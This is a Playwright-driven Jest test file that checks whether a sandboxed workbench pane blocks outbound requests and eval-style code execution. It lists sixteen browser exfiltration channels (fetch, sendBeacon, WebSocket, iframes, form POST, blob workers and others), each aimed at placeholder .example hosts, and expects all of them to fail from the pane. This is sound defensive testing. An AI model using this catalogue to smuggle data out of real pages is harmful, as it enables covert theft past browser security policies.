import type { Frame } from 'playwright-core';
import { openWorkbench, type Workbench } from './openWorkbench';

jest.setTimeout(180_000);

let workbench: Workbench;
let pane: Frame;

beforeAll(async () => {
  workbench = await openWorkbench();
  await workbench.pane.getByRole('button', { name: 'Chèn phụ lục' }).waitFor({ timeout: 60_000 });
  pane = workbench.page.frames().find((frame) => frame.url().includes('pane.html'))!;
});
afterAll(async () => {
  await workbench.close();
});

/** Ways out of a page, each to a place of its name. */
const ways: Readonly<Record<string, (address: string) => unknown>> = {
  fetch: (address) => void fetch(address, { mode: 'no-cors' }).catch(() => null),
  request: (address) => {
    const request = new XMLHttpRequest();
    request.open('GET', address);
    request.send();
  },
  beacon: (address) => navigator.sendBeacon(address, 'x'),
  socket: (address) => new WebSocket(address.replace('https', 'wss')),
  stream: (address) => new EventSource(address),
  image: (address) => {
    new Image().src = address;
  },
  font: (address) => void new FontFace('x', `url(${address})`).load().catch(() => null),
  script: (address) => document.head.append(Object.assign(document.createElement('script'), { src: address })),
  style: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address })),
  prefetch: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address })),
  manifest: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: address })),
  frame: (address) => document.body.append(Object.assign(document.createElement('iframe'), { src: address })),
  object: (address) => document.body.append(Object.assign(document.createElement('object'), { data: address })),
  media: (address) => {
    new Audio().src = address;
  },
  worker: (address) => new Worker(URL.createObjectURL(new Blob([`fetch('${address}', { mode: 'no-cors' })`]))),
  form: (address) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'sink' });
    const form = Object.assign(document.createElement('form'), { action: address, method: 'POST', target: 'sink' });
    document.body.append(frame, form);
    form.submit();
  },
};

/** Takes every way from a page; gives those on which something got out. */
async function waysOut(frame: Frame, from: string): Promise<string[]> {
  for (const [name, way] of Object.entries(ways)) {
    const code = `try { (${way})('https://${name}.${from}.example/') } catch {}`;
    await frame.evaluate(code);
  }
  const got = () =>
    Object.keys(ways).filter((name) => workbench.gotOut().some((url) => url.includes(`${name}.${from}.`)));
  for (let waited = 0; waited < 5000 && got().length < Object.keys(ways).length; waited += 250)
    await workbench.page.waitForTimeout(250);
  return got();
}

test('from a page without a policy something gets out on every way, and is seen', async () => {
  expect(await waysOut(workbench.page.mainFrame(), 'workbench')).toEqual(Object.keys(ways));
});

test('from the pane nothing gets out on any of them', async () => {
  expect(await waysOut(pane, 'pane')).toEqual([]);
});

test('in the pane no text becomes code', async () => {
  const told = await pane.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        // Outside of what the test itself evaluates.
        setTimeout(() => {
          const ways = [
            // biome-ignore lint/security/noGlobalEval: it is to be refused.
            () => globalThis.eval('1'),
            () => new Function('return 1')(),
            () => setTimeout('window.ran = 1'),
          ];
          const tell = (way: () => unknown) => {
            try {
              return String(way());
            } catch (refused) {
              return (refused as Error).name;
            }
          };
          const told = ways.map(tell).slice(0, 2);
          setTimeout(() => resolve([...told, String('ran' in window)]), 100);
        });
      }),
  );
  expect(told).toEqual(['EvalError', 'EvalError', 'false']);
});
